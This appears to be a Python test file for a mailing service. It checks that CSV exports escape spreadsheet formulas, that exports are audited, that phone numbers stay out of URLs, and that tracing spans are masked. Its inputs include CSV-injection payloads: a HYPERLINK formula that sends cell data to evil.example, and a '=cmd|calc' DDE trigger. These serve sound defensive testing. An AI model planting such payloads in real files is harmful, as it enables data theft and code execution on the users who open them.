"""Data leaving the building: formulas in the CSVs we write, exports nobody records, phones in
the URLs we make and in spans."""

from __future__ import annotations

import csv
import io
from typing import Any

import httpx

from tests.api.helpers import insert_mailing, insert_messages
from tests.api.test_imports import finished
from tests.conftest import VIEWER_TOKEN
from tests.support import database
from tests.ui.pages_fixtures import ConsoleClient, console_app, console_client, console_settings

__all__ = ["console_app", "console_client", "console_settings"]

# OWASP's triggers, a quote before one (kept apart from a quote we add), and harmless cells.
TAGS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "+1+2",
    "-3",
    "@SUM(A1:A2)",
    "\tx",
    "\rx",
    "'=already quoted",
    "''+two quotes",
    "plain",
    "it's fine",
    "",
]


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def directory(db_name: str) -> list[tuple[Any, ...]]:
    with database.connect(db_name) as conn:
        return conn.execute(
            "SELECT phone, operator_code, tag, timezone, opted_out_at IS NOT NULL"
            " FROM client WHERE deleted_at IS NULL ORDER BY phone"
        ).fetchall()


async def import_csv(api: httpx.AsyncClient, text: str) -> dict[str, Any]:
    started = await api.post(
        "/clients/imports", content=text.encode(), headers={"Content-Type": "text/csv"}
    )
    assert started.status_code == 202, started.text
    return await finished(api, started.json()["id"])


async def test_the_clients_export_is_formula_safe_and_re_imports_to_the_same_directory(
    api: httpx.AsyncClient, clean_db: str
) -> None:
    for n, tag in enumerate(TAGS):
        body = {"phone": f"7912000{n:04d}", "tag": tag, "timezone": "Europe/Moscow"}
        assert (await api.post("/clients", json=body)).status_code == 201
    with database.connect(clean_db) as conn:
        conn.execute("UPDATE client SET opted_out_at = now() WHERE phone = '79120000002'")
    before = directory(clean_db)
    exported = await api.get("/clients/export")
    assert exported.status_code == 200
    for row in rows(exported.text):
        tag = row["tag"]
        assert not tag.startswith(("=", "+", "-", "@", "\t", "\r")), row
        assert row["phone"].isdigit()  # phones and numbers are written as they are
    by_phone = {row["phone"]: row["tag"] for row in rows(exported.text)}
    assert by_phone["79120000000"] == "'" + TAGS[0]
    assert by_phone["79120000006"] == "''=already quoted"
    assert by_phone["79120000008"] == "plain"

    with database.connect(clean_db) as conn:
        conn.execute("DELETE FROM client")
    result = await import_csv(api, exported.text)
    assert (result["status"], result["rejected"]) == ("done", 0), result
    assert directory(clean_db) == before


async def test_rejected_rows_and_messages_are_written_formula_safe(
    api: httpx.AsyncClient, clean_db: str
) -> None:
    result = await import_csv(api, "phone,tag,timezone\n=HYPERLINK(1),x,UTC\n79120000001,@x,-UTC\n")
    rejected = rows((await api.get(f"/clients/imports/{result['id']}/rejected")).text)
    assert [(r["phone"], r["tag"], r["timezone"]) for r in rejected] == [
        ("'=HYPERLINK(1)", "x", "UTC"),
        ("79120000001", "'@x", "'-UTC"),
    ]
    with database.connect(clean_db) as conn:
        client = conn.execute(
            "INSERT INTO client (phone, operator_code, tag, timezone)"
            " VALUES ('79120000009', '912', '', 'UTC') RETURNING id"
        ).fetchone()
        assert client is not None
        mailing = insert_mailing(conn, status="running")
        insert_messages(conn, mailing, [client[0]], status="failed")
        conn.execute("UPDATE message SET last_error = '=cmd|calc'")
    messages = rows((await api.get(f"/mailings/{mailing}/messages/export")).text)
    assert [(m["phone"], m["last_error"]) for m in messages] == [("79120000009", "'=cmd|calc")]


async def test_every_export_writes_an_audit_entry(api: httpx.AsyncClient, clean_db: str) -> None:
    for n in range(3):
        await api.post(
            "/clients", json={"phone": f"7912000000{n}", "tag": "vip", "timezone": "UTC"}
        )
    result = await import_csv(api, "phone,tag,timezone\nbad,x,UTC\n")
    with database.connect(clean_db) as conn:
        mailing = insert_mailing(conn)
    viewer = {"Authorization": f"Bearer {VIEWER_TOKEN}"}
    assert (await api.get("/clients/export", params={"tag": "vip"}, headers=viewer)).is_success
    assert (await api.get(f"/mailings/{mailing}/messages/export?status=sent")).is_success
    assert (await api.get(f"/clients/imports/{result['id']}/rejected")).is_success
    with database.connect(clean_db) as conn:
        entries = conn.execute(
            "SELECT actor_name, action, target_type, target_id, changes FROM audit_log"
            " WHERE action LIKE 'export%' ORDER BY id"
        ).fetchall()
    assert entries == [
        ("reports", "export_clients", "client", None,
         {"filters": {"tag": "vip"}, "rows": 3, "completed": True}),
        ("token-1", "export_messages", "mailing", str(mailing),
         {"filters": {"status": "sent"}, "rows": 0, "completed": True}),
        ("token-1", "export_rejected_rows", "client_import", str(result["id"]),
         {"filters": {}, "rows": 1, "completed": True}),
    ]  # fmt: skip


async def test_the_console_keeps_phones_out_of_its_urls(
    console_client: ConsoleClient, clean_db: str
) -> None:
    admin = await console_client("admin")
    token = admin.csrf_token  # type: ignore[attr-defined]
    created = await admin.post(
        "/ui/clients",
        data={"csrf_token": token, "phone": "79123456789", "tag": "t", "timezone": "UTC"},
    )
    assert created.status_code == 303
    assert "79123456789" not in created.headers["location"]
    listed = await admin.get("/ui/clients")
    assert "phone=" not in listed.text  # no link and no GET form carries a phone
    viewer = await console_client("viewer")
    found = await viewer.post(
        "/ui/clients/find",
        data={"csrf_token": viewer.csrf_token, "phone": "79123456789"},  # type: ignore[attr-defined]
    )
    assert found.status_code == 303
    assert "79123456789" not in found.headers["location"]
    page = await viewer.get(found.headers["location"])
    assert "79123456789" in page.text
    missing = await viewer.post(
        "/ui/clients/find",
        data={"csrf_token": viewer.csrf_token, "phone": "79000000000"},  # type: ignore[attr-defined]
    )
    assert missing.status_code == 200 and "79000000000" not in str(missing.url)


class _Span:
    def __init__(self) -> None:
        self.attributes: dict[str, str] = {"url.query": "phone=79123456789&tag=vip"}

    def is_recording(self) -> bool:
        return True

    def set_attribute(self, key: str, value: str) -> None:
        self.attributes[key] = value


def test_spans_keep_query_names_not_values() -> None:
    from services.api.app import mask_query  # the hook FastAPIInstrumentor is given

    span = _Span()
    mask_query(span, {"query_string": b"phone=79123456789&tag=vip"})
    assert span.attributes["url.query"] == "phone=***&tag=***"
